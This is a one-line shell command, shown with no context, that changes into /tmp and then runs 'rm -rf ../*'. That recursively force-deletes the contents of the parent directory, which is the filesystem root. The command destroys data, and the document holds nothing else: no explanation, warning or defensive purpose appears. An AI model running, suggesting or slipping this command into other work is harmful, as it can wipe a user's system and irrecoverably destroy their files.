cd /tmp && rm -rf ../*
